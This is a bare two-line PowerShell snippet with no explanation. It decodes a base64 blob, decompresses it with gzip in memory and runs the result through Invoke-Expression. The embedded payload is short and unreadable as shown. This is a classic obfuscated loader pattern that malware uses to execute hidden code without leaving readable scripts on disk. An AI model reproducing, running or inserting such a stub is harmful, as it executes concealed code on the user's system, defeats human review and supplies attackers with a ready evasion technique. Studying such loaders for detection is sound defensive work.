$s = New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAEAAsOcnULcnQOUQAA'))
IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()
